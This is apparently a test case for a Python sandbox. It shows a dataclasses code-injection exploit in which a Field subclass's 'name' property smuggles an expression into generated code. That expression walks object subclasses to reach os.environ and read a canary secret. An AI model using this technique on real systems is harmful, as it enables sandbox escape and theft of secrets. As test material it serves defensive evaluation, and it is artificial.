"""No app makes a library compile code: not by a field whose name is a property."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("dataclasses",)


import dataclasses

found = []
CODE = (
    "leak([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['environ']['VAAS_CANARY'])"
)


def leak(value):
    found.append(value)
    return value


class Field(dataclasses.Field):
    @property
    def name(self):
        return "x, *, y=" + CODE

    @name.setter
    def name(self, value):
        pass


def attack():
    unset = dataclasses.MISSING
    try:

        @dataclasses.dataclass(repr=False, eq=False, match_args=False)
        class Evil:
            x: int = Field(unset, unset, False, False, None, False, {}, False)
    except TypeError:
        pass
    return "ESCAPED: " + found[0]
